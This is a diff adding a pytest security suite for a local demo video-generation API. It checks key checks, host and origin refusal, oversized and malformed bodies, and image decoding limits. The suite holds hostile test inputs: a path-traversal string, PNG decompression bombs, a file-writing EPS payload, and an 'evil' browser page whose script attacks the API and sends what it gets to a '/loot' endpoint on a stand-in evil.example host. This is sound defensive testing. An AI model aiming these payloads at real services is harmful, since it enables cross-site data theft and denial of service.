@@ -1,0 +1,467 @@
+"""The demo server's door: pages, other users and hostile bodies get nothing out of it."""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import http.server
+import io
+import json
+import os
+import resource
+import socket
+import stat
+import struct
+import threading
+import time
+import zlib
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+from PIL import Image
+
+from ipyreel.demo.exchange import RequestLog
+from ipyreel.demo.render import still
+from tests.support.demo import running_demo
+from tests.support.lab import find_chromium
+
+KEY = "door-key-4711"
+ASK = {"prompt": "a canary in a coal mine", "seconds": 1, "size": "64x64"}
+RIGHT = {"authorization": f"Bearer {KEY}"}
+
+
+@pytest.fixture(scope="module")
+def servers(tmp_path_factory):
+    """Serve with a key, and as `--no-key` does: the API is open, the control routes are not."""
+    homes = [tmp_path_factory.mktemp(name) for name in ("closed", "open")]
+    with (
+        running_demo(homes[0], stub=True, key=KEY) as closed,
+        running_demo(homes[1], stub=True, control_key=KEY) as opened,
+    ):
+        yield closed, opened
+
+
+def emptied(server):
+    """Return a server without jobs and with nothing in its log."""
+    for job_id in server.job_ids():
+        server.jobs.remove(job_id)
+    server.app.log = RequestLog()
+    return server
+
+
+@pytest.fixture
+def demo(servers):
+    return emptied(servers[0])
+
+
+@pytest.fixture
+def open_demo(servers):
+    return emptied(servers[1])
+
+
+def send(demo, method, path, **options):
+    return httpx.request(method, demo.origin + path, trust_env=False, timeout=20, **options)
+
+
+def create(demo, **options):
+    return send(demo, "POST", "/v1/videos", **{"headers": RIGHT, "json": ASK, **options})
+
+
+# ------------------------------------------------------------------------- without the key
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("POST", "/v1/videos"),
+        ("GET", "/v1/videos"),
+        ("GET", "/v1/videos/ID"),
+        ("GET", "/v1/videos/ID/content"),
+        ("HEAD", "/v1/videos/ID/content"),
+        ("GET", "/v1/videos/ID/content?variant=thumbnail"),
+        ("DELETE", "/v1/videos/ID"),
+        ("POST", "/v1/videos/ID/remix"),
+        ("POST", "/v1/videos/edits"),
+        ("POST", "/v1/videos/extensions"),
+        ("POST", "/v1/videos/characters"),
+        ("GET", "/v1/models"),
+        ("GET", "/__demo__/requests"),
+        ("POST", "/__demo__/faults"),
+        ("POST", "/__demo__/clock"),
+    ],
+)
+@pytest.mark.parametrize("key", [None, "Bearer", "Bearer other", KEY, f"Basic {KEY}"])
+def test_no_route_works_without_the_key(demo, method, path, key):
+    job = create(demo).json()["id"]
+    headers = {} if key is None else {"authorization": key}
+    body = {"json": ASK} if method == "POST" else {}
+    reply = send(demo, method, path.replace("ID", job), headers=headers, **body)
+    assert reply.status_code == 401
+    assert KEY not in reply.text
+    assert ASK["prompt"] not in reply.text
+    assert demo.job_ids() == [job]
+
+
+def test_the_control_routes_need_their_key_even_where_the_api_is_open(open_demo):
+    assert send(open_demo, "POST", "/v1/videos", json=ASK).status_code == 200
+    for method, route in (("GET", "requests"), ("POST", "faults"), ("POST", "clock")):
+        body = {} if method == "GET" else {"json": {}}
+        assert send(open_demo, method, f"/__demo__/{route}", **body).status_code == 401
+    assert send(open_demo, "GET", "/__demo__/requests", headers=RIGHT).status_code == 200
+
+
+@pytest.mark.parametrize("ticket", ["", "0", "a" * 32, "../../../etc/passwd"])
+def test_an_address_of_a_video_cannot_be_guessed(demo, ticket):
+    job = create(demo).json()["id"]
+    path = f"/files/{demo.jobs.stem(job)}-{ticket.replace('/', '%2F')}.mp4"
+    assert send(demo, "GET", path).status_code == 404
+
+
+# ---------------------------------------------------------------- pages: names and origins
+
+
+@pytest.mark.parametrize(
+    "host",
+    ["evil.example", "evil.example:80", "localhost.evil.example", "127.0.0.1.nip.io", "[::2]"],
+)
+def test_another_host_name_is_refused(open_demo, host):
+    reply = send(open_demo, "GET", "/v1/videos", headers={"host": host})
+    assert reply.status_code == 403
+
+
+@pytest.mark.parametrize(
+    "origin",
+    ["http://evil.example", "null", "http://localhost:8888", "https://127.0.0.1", "file://", ""],
+)
+@pytest.mark.parametrize("method", ["GET", "POST"])
+def test_a_page_of_another_origin_is_refused(open_demo, origin, method):
+    body = {"json": ASK} if method == "POST" else {}
+    reply = send(open_demo, method, "/v1/videos", headers={"origin": origin}, **body)
+    assert reply.status_code == 403
+    assert open_demo.job_ids() == []
+    assert not [name for name in reply.headers if name.startswith("access-control")]
+
+
+def test_its_own_names_and_origin_are_accepted(open_demo):
+    port = urlsplit(open_demo.url).port
+    for name in ("127.0.0.1", "localhost", "LocalHost"):
+        headers = {"host": f"{name}:{port}", "origin": f"http://{name.lower()}:{port}"}
+        assert send(open_demo, "GET", "/v1/videos", headers=headers).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "kind", ["text/plain", "text/plain; application/json", "", "application/jsonp", "text/json"]
+)
+def test_what_a_page_can_send_without_asking_is_not_read_as_json(open_demo, kind):
+    headers = {"content-type": kind}
+    reply = send(open_demo, "POST", "/v1/videos", headers=headers, content=json.dumps(ASK))
+    assert reply.status_code == 415
+    assert open_demo.job_ids() == []
+
+
+# -------------------------------------------------------------------------------- bodies
+
+
+def memory():
+    """Return the most memory this process has had, in bytes."""
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
+
+
+@pytest.mark.parametrize("kind", ["application/json", "multipart/form-data; boundary=x"])
+@pytest.mark.parametrize("declared", [True, False])
+def test_a_body_of_700_megabytes_is_not_held(demo, kind, declared):
+    before, sent = memory(), 0
+    piece = b" " * 2**20
+    if kind.startswith("multipart"):
+        first = b'--x\r\nContent-Disposition: form-data; name="image"; filename="a.png"\r\n\r\n'
+    else:
+        first = b"{"
+    parts = urlsplit(demo.url)
+    with socket.create_connection((parts.hostname, parts.port), 20) as sock:
+        framing = "content-length: 734003200" if declared else "transfer-encoding: chunked"
+        head = f"POST /v1/videos HTTP/1.1\r\nhost: {parts.netloc}\r\ncontent-type: {kind}\r\n"
+        sock.sendall(f"{head}authorization: Bearer {KEY}\r\n{framing}\r\n\r\n".encode())
+        with contextlib.suppress(OSError):
+            while sent < 700:
+                data = first if sent == 0 else piece
+                sock.sendall(data if declared else b"%x\r\n%s\r\n" % (len(data), data))
+                sent += 1
+        with contextlib.suppress(OSError):
+            reply = sock.recv(4096)
+            assert reply.startswith(b"HTTP/1.1 413")
+    assert sent < 200
+    assert memory() - before < 350 * 2**20
+    assert create(demo).status_code == 200
+
+
+def test_a_body_is_not_read_before_the_key_is_seen(demo):
+    parts = urlsplit(demo.url)
+    with socket.create_connection((parts.hostname, parts.port), 20) as sock:
+        head = f"POST /v1/videos HTTP/1.1\r\nhost: {parts.netloc}\r\n"
+        sock.sendall(f"{head}content-type: application/json\r\ncontent-length: 9\r\n\r\n".encode())
+        assert sock.recv(4096).startswith(b"HTTP/1.1 401")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'{"prompt": "x", "seconds": 1' + b"0" * 400 + b"}",
+        b'{"prompt": "x", "seconds": 1e400}',
+        b'{"prompt": "x", "seconds": -1e-400}',
+        b'{"prompt": "x", "seed": 1' + b"0" * 400 + b"}",
+        b'{"prompt": "x", "seed": "1' + b"0" * 5000 + b'"}',
+        b'{"prompt": "x", "seed": 9223372036854775808}',
+        b'{"prompt": "x", "seconds": ' + b"9" * 10_000 + b"}",
+        b'{"prompt": "x", "seconds": NaN}',
+        b'{"prompt": "x", "metadata": ' + b"[" * 200_000 + b"}",
+        b'{"prompt": "x", "metadata": "' + b"{" * 60_000 + b'", "seconds": 0}',
+        b'{"prompt": ' * 100_000,
+        b'{"prompt": "x", "size": "999999x999999"}',
+        b'{"prompt": "x", "size": "' + b"1" * 10_000 + b'x64"}',
+        b'{"prompt": "x", "n": 1' + b"0" * 400 + b"}",
+        b'{"prompt": "x", "images": [' + b'{"image_url": {"url": 1}},' * 1000 + b"0]}",
+        b'{"prompt": "x", "input_reference": {"file_id": "file-1"}}',
+        b'{"prompt": "x", "input_reference": 7}',
+    ],
+    ids=range(17),
+)
+def test_numbers_and_nesting_out_of_bounds_are_400(demo, body):
+    headers = {**RIGHT, "content-type": "application/json"}
+    reply = send(demo, "POST", "/v1/videos", headers=headers, content=body)
+    assert reply.status_code == 400
+    assert reply.json()["error"]["message"]
+    assert demo.job_ids() == []
+
+
+@pytest.mark.parametrize(
+    "query",
+    ["limit=" + "9" * 5000, "limit=%C2%B2", "limit=-0", "after=%00", "order[]=asc&limit=1e9"],
+)
+def test_queries_out_of_bounds_are_400(demo, query):
+    assert send(demo, "GET", f"/v1/videos?{query}", headers=RIGHT).status_code == 400
+
+
+@pytest.mark.parametrize(
+    "wanted", ["bytes=" + "9" * 5000 + "-", "bytes=-" + "9" * 5000, "bytes=0-²"]
+)
+def test_a_range_out_of_bounds_is_no_crash(tmp_path, wanted):
+    with running_demo(tmp_path, stub=True, speed=1000) as demo:
+        job = send(demo, "POST", "/v1/videos", json=ASK).json()["id"]
+        time.sleep(0.05)
+        headers = {"range": wanted.encode()}
+        reply = send(demo, "GET", f"/v1/videos/{job}/content", headers=headers)
+        assert reply.status_code in {200, 206, 416}
+
+
+def test_a_form_of_a_million_fields_is_refused(demo):
+    form = "&".join(f"a{n}=1" for n in range(100_000))
+    headers = {**RIGHT, "content-type": "application/x-www-form-urlencoded"}
+    reply = send(demo, "POST", "/v1/videos", headers=headers, content=form)
+    assert reply.status_code == 400
+
+
+# -------------------------------------------------------------------------------- images
+
+
+def chunk(name, data):
+    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+
+
+def bomb(width, height):
+    """Return a PNG of a few kilobytes that claims a size."""
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    body = zlib.compress(bytes(1000))
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
+
+
+def other_image(kind):
+    target = io.BytesIO()
+    Image.new("RGB", (64, 64)).save(target, kind)
+    return target.getvalue()
+
+
+EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n(/tmp/canary) (w) file\n"
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        EPS,
+        b"\xc5\xd0\xd3\xc6" + bytes(60),
+        b"\x89PNG\r\n\x1a\n" + EPS,
+        other_image("BMP"),
+        other_image("TIFF"),
+        other_image("ICO"),
+        other_image("PPM"),
+        other_image("TGA"),
+        b"<svg xmlns='http://www.w3.org/2000/svg' width='64' height='64'/>",
+        bomb(13_000, 13_000),
+        bomb(2**31 - 1, 2**31 - 1),
+        bomb(0, 64),
+        b"GIF89a" + b"\xff" * 4 + bytes(20),
+        b"\xff\xd8\xff" + b"\xff" * 100_000,
+        b"\xff\xd8\xff\xe0\x00\x00" * 1000,
+        b"RIFF\x00\x00\x00\x00WEBPVP8X" + bytes(8) + b"\xff" * 6 + bytes(10),
+        b"RIFF\x00\x00\x00\x00WEBPVP8 " + bytes(30),
+        b"",
+    ],
+    ids=range(18),
+)
+def test_only_four_kinds_of_image_of_a_bounded_size_are_read(demo, image):
+    before, began = memory(), time.monotonic()
+    files = {"prompt": (None, "x"), "input_reference": ("a.png", image, "image/png")}
+    reply = send(demo, "POST", "/v1/videos", headers=RIGHT, files=files)
+    assert reply.status_code == 400
+    assert reply.json()["error"]["code"] == "invalid_image"
+    assert demo.job_ids() == []
+    assert memory() - before < 100 * 2**20
+    assert time.monotonic() - began < 5
+
+
+def test_the_renderer_opens_those_four_kinds_only():
+    """An EPS never reaches Ghostscript, even if one came past the door."""
+    for image in (EPS, other_image("BMP"), other_image("TIFF")):
+        with pytest.raises(ValueError, match="input image cannot be read"):
+            still("x", seed=1, width=64, height=64, image=image)
+
+
+# ---------------------------------------------------------------------------- the queue
+
+
+def test_a_hundred_jobs_may_wait_and_no_more(tmp_path):
+    with running_demo(tmp_path, speed=1) as demo:
+        gate = threading.Event()
+        demo.provider.queue._pool.submit(gate.wait, 60)  # the renderer is busy
+        try:
+            codes = [send(demo, "POST", "/v1/videos", json=ASK).status_code for _ in range(102)]
+            assert codes == [200] * 100 + [429] * 2
+            reply = send(demo, "POST", "/v1/videos", json=ASK)
+            assert reply.headers["retry-after"]
+            assert "waiting" in reply.json()["error"]["message"]
+            for job_id in demo.job_ids():
+                demo.jobs.remove(job_id)
+        finally:
+            gate.set()
+
+
+# ----------------------------------------------------------------------- other local users
+
+
+@pytest.mark.skipif(os.name != "posix", reason="rights of files are POSIX")
+def test_jobs_are_for_their_owner_only(tmp_path):
+    old = os.umask(0)
+    try:
+        with running_demo(tmp_path, speed=1000) as demo:
+            image = "data:image/png;base64," + base64.b64encode(other_image("PNG")).decode()
+            fields = {**ASK, "input_reference": {"image_url": image}}
+            job = send(demo, "POST", "/v1/videos", json=fields).json()["id"]
+            demo.video_bytes(job)
+            files = [path for path in demo.jobs.folder.iterdir() if path.is_file()]
+            assert {path.suffix for path in files} == {".json", ".image", ".mp4"}
+            for path in files:
+                assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+            assert stat.S_IMODE(demo.jobs.folder.stat().st_mode) == 0o700
+    finally:
+        os.umask(old)
+
+
+# ---------------------------------------------------------------------- a page in a browser
+
+PAGE = """<!DOCTYPE html><title>evil</title><script>
+const api = "API", seen = [];
+const tell = (how, text) => seen.push(how + ": " + text);
+const tries = {
+  list: () => fetch(api + "/v1/videos").then(r => r.text()),
+  json: () => fetch(api + "/v1/videos", {method: "POST", body: BODY,
+    headers: {"content-type": "application/json"}}).then(r => r.text()),
+  plain: () => fetch(api + "/v1/videos", {method: "POST", body: BODY, mode: "no-cors",
+    headers: {"content-type": "text/plain"}}).then(r => r.text()),
+  form: () => { const f = new FormData(); f.append("prompt", "from a page");
+    return fetch(api + "/v1/videos", {method: "POST", body: f, mode: "no-cors"})
+      .then(r => r.text()); },
+  blob: () => fetch(api + "/v1/videos", {method: "POST", mode: "no-cors",
+    body: new Blob([BODY], {type: "application/json"})}).then(r => r.text()),
+  beacon: async () => navigator.sendBeacon(api + "/v1/videos", new URLSearchParams({prompt: "b"})),
+  remove: () => fetch(api + "/v1/videos/JOB", {method: "DELETE"}).then(r => r.text()),
+  control: () => fetch(api + "/__demo__/requests").then(r => r.text()),
+  script: () => new Promise((yes, no) => { const s = document.createElement("script");
+    s.src = api + "/v1/videos"; s.onload = () => yes("loaded"); s.onerror = no;
+    document.head.append(s); }),
+  frame: () => new Promise(yes => { const f = document.createElement("iframe");
+    f.src = api + "/v1/videos"; document.documentElement.append(f);
+    f.onload = () => { try { yes(f.contentDocument.body.innerText) } catch (e) { yes("") } }; }),
+  submit: () => new Promise(yes => { const f = document.createElement("form");
+    const t = document.createElement("iframe"); t.name = "t"; document.documentElement.append(t);
+    f.method = "post"; f.action = api + "/v1/videos"; f.target = "t";
+    f.innerHTML = '<input name="prompt" value="from a form">';
+    document.documentElement.append(f); t.onload = () => yes(""); f.submit();
+    setTimeout(() => yes(""), 2000); }),
+};
+(async () => {
+  for (const [how, attempt] of Object.entries(tries))
+    try { tell(how, await attempt()) } catch (e) { tell(how, "failed") }
+  await fetch("/loot", {method: "POST", body: seen.join("\\n")});
+  document.title = "done";
+})();
+</script>"""
+
+
+@contextlib.contextmanager
+def evil_server(page):
+    """Serve a page; gives its port and the list of what it sent home."""
+    loot = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self._say(page.encode() if self.path == "/" else b"")
+
+        def do_POST(self):
+            loot.append(self.rfile.read(int(self.headers["content-length"])).decode())
+            self._say(b"")
+
+        def _say(self, body):
+            self.send_response(200)
+            self.send_header("content-type", "text/html")
+            self.send_header("content-length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *_args):
+            """Say nothing."""
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield server.server_address[1], loot
+        server.shutdown()
+        thread.join()
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("name", ["localhost", "rebound.example"])
+def test_a_page_in_chromium_gets_nothing_and_changes_nothing(open_demo, name):
+    """The worst case: no key, and a page whose name resolves to this machine."""
+    sync_api = pytest.importorskip("playwright.sync_api")
+    job = send(open_demo, "POST", "/v1/videos", json=ASK).json()["id"]
+    port = urlsplit(open_demo.url).port
+    page = PAGE.replace("API", f"http://{name}:{port}").replace("JOB", job)
+    page = page.replace("BODY", f"'{json.dumps(ASK)}'")
+    with evil_server(page) as (evil, loot), sync_api.sync_playwright() as play:
+        rules = "MAP *.example 127.0.0.1"
+        browser = play.chromium.launch(
+            executable_path=find_chromium(),
+            args=["--no-sandbox", f"--host-resolver-rules={rules}"],
+        )
+        tab = browser.new_page()
+        tab.goto(f"http://evil.example:{evil}/")
+        tab.wait_for_function("document.title == 'done'", timeout=60_000)
+        # The name that points to the server itself: no other origin, so only `Host` tells.
+        reply = tab.goto(f"http://rebound.example:{port}/v1/videos")
+        assert reply.status == 403
+        browser.close()
+    assert len(loot) == 1
+    assert len(loot[0].splitlines()) == 11, loot[0]
+    assert "canary" not in loot[0]
+    assert open_demo.job_ids() == [job]
+    assert [seen.status for seen in open_demo.log() if seen.accepted] == [200]
